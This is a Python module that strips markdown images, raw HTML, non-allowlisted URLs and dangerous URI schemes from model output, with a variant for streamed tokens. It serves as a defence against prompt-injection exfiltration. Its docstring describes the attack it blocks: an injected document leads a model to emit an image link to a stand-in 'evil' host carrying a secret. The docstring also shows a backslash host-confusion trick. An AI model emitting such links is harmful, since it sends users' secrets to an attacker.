"""Output sanitising against exfiltration through the user's browser (OWASP LLM05).

A prompt-injected document can make the model emit ``![x](https://evil/?q=<secret>)``;
a markdown renderer fetches the image and the secret leaves, whatever the
egress NetworkPolicies say. So, in every mode:

* markdown images (inline, reference-style and shortcut) are removed, and as a
  last pass any ``!`` directly before ``[`` is dropped, so no image can be
  re-formed by what the earlier passes left behind;
* ``<`` is escaped, so no raw HTML (img, iframe, script, autolinks) survives;
* any URL whose host is not on the allowlist (empty by default) is removed,
  wherever it appears: link targets, reference definitions, bare text;
* ``javascript:``, ``vbscript:``, ``data:`` and ``file:`` URIs are removed;
* allowlisted hosts are matched on a strict host grammar: a backslash, a
  percent escape, userinfo or a control character makes a URL not allowed
  (browsers read ``https://evil.com\\.ok.com`` as host ``evil.com``).

``StreamSanitizer`` applies the same rules to a token stream: it only releases
text up to a whitespace at which no markdown construct is open, so a construct
split across tokens is sanitised whole. URLs contain no whitespace, so a URL is
never split between two released pieces.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

IMAGE_REMOVED = "[image removed]"
LINK_REMOVED = "[link removed]"
TEXT_REMOVED = "(text removed)"

_INLINE_IMAGE = re.compile(r"!\s*\[[^\]]*\]\s*\([^)]*\)?", re.DOTALL)
_REF_IMAGE = re.compile(r"!\s*\[[^\]]*\]\s*(\[[^\]]*\])?", re.DOTALL)
_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*(\S+).*$", re.MULTILINE)
_LINK = re.compile(r"\[([^\]]*)\]\(\s*([^)\s]*)[^)]*\)", re.DOTALL)
_DANGEROUS_SCHEME = re.compile(r"(?i)(?:\b(?:javascript|vbscript)\s*:|\bdata:(?=[^\s])|\bfile:(?=/))[^\s)\]]*")
_URL = re.compile(r"(?i)(?:\b[a-z][a-z0-9+.-]*://|(?<![\w/])//|\bwww\.)[^\s<>()\[\]\"'`]+")
# Every rule needs one of these: "[" (images, links, definitions), ":" (schemes), "/" (//host),
# "<" (HTML), "!" (the bang pass) or "www." (bare hosts).
_TRIGGERS = re.compile(r"(?i)[\[:/<!]|www\.")
_BANG_BEFORE_BRACKET = re.compile(r"!+(?=\s*\[)")
_HOST = re.compile(r"^[a-z0-9]([a-z0-9-]*[a-z0-9])?(\.[a-z0-9]([a-z0-9-]*[a-z0-9])?)*$")
_UNSAFE_URL_CHARS = re.compile(r"[\\%\s\x00-\x1f\x7f]")


class Sanitizer:
    def __init__(self, allowlist: Iterable[str] = ()) -> None:
        self._allow = {h.lower().strip().rstrip(".") for h in allowlist if h.strip()}

    def host_allowed(self, url: str) -> bool:
        if not self._allow:
            return False
        candidate = url if "://" in url else ("https:" + url if url.startswith("//") else "https://" + url)
        try:
            parts = urlsplit(candidate)
        except ValueError:
            return False
        if parts.scheme.lower() not in ("http", "https") or parts.username or parts.password:
            return False
        if "@" in parts.netloc or _UNSAFE_URL_CHARS.search(parts.netloc):
            return False
        host = (parts.hostname or "").lower().rstrip(".")
        if not _HOST.match(host):
            return False
        return any(host == a or host.endswith("." + a) for a in self._allow)

    def __call__(self, text: str) -> str:
        if not _TRIGGERS.search(text):
            return text  # no rule below can match: skip the passes (most chunks and deltas)
        text = _INLINE_IMAGE.sub(IMAGE_REMOVED, text)
        text = _REF_IMAGE.sub(IMAGE_REMOVED, text)
        text = _REF_DEF.sub(lambda m: m.group(0) if self.host_allowed(m.group(1)) else "", text)
        text = _LINK.sub(self._link, text)
        text = _DANGEROUS_SCHEME.sub(LINK_REMOVED, text)
        text = _URL.sub(lambda m: m.group(0) if self.host_allowed(m.group(0)) else LINK_REMOVED, text)
        text = _BANG_BEFORE_BRACKET.sub("", text)
        return text.replace("<", "&lt;")

    def _link(self, m: re.Match[str]) -> str:
        label, url = m.group(1), m.group(2)
        return m.group(0) if self.host_allowed(url) else label


class StreamSanitizer:
    """Sanitises a stream of deltas; call ``feed`` per delta and ``flush`` at the end.

    The concatenation of what it releases carries no construct that the
    one-shot :class:`Sanitizer` would remove, however the input is split.
    """

    # Past this much pending text, release it anyway so a never-closed bracket
    # cannot stall the stream or grow memory without bound. The release cuts at
    # whitespace; a whitespace-free run that long is dropped whole (and the rest
    # of that run with it), since half of a URL must never be released.
    MAX_PENDING = 4096

    def __init__(self, sanitizer: Sanitizer) -> None:
        self._sanitize = sanitizer
        self._pending = ""
        self._dropping_word = False

    def feed(self, delta: str) -> str:
        if self._dropping_word:
            delta = self._skip_word(delta)
            if not delta:
                return ""
        self._pending += delta
        cut = _safe_cut(self._pending)
        if cut == 0 and len(self._pending) > self.MAX_PENDING:
            return self._forced_release()
        ready, self._pending = self._pending[:cut], self._pending[cut:]
        return self._sanitize(ready) if ready else ""

    def flush(self) -> str:
        ready, self._pending = self._pending, ""
        self._dropping_word = False
        return self._sanitize(ready) if ready else ""

    def _forced_release(self) -> str:
        last_ws = max((i for i, ch in enumerate(self._pending) if ch.isspace()), default=-1)
        if last_ws == -1:
            self._pending = ""
            self._dropping_word = True
            return TEXT_REMOVED
        ready, self._pending = self._pending[: last_ws + 1], self._pending[last_ws + 1 :]
        # A trailing "!" could pair with a "[" released later: drop it.
        out = self._sanitize(ready)
        stripped = out.rstrip()
        return stripped.rstrip("!") + out[len(stripped) :]

    def _skip_word(self, delta: str) -> str:
        for i, ch in enumerate(delta):
            if ch.isspace():
                self._dropping_word = False
                return delta[i:]
        return ""


def _safe_cut(text: str) -> int:
    """Index just after the last whitespace at which no ``[``, ``(`` or ``<`` is open.

    URLs contain no whitespace, so cutting at whitespace never splits one; a
    ``]`` or ``!`` at the very end might be followed by ``(`` or ``[``, so it stays open.
    """
    square = paren = angle = 0
    cut = 0
    last_visible = ""  # the last non-whitespace character seen (linear, no re-scan)
    for i, ch in enumerate(text):
        if ch == "[":
            square += 1
        elif ch == "]" and square:
            square -= 1
        elif ch == "(":
            paren += 1
        elif ch == ")" and paren:
            paren -= 1
        elif ch == "<":
            angle += 1
        elif ch == ">" and angle:
            angle -= 1
        elif ch.isspace():
            if not (square or paren or angle) and last_visible not in ("]", "!"):
                cut = i + 1
            continue
        last_visible = ch
    return cut
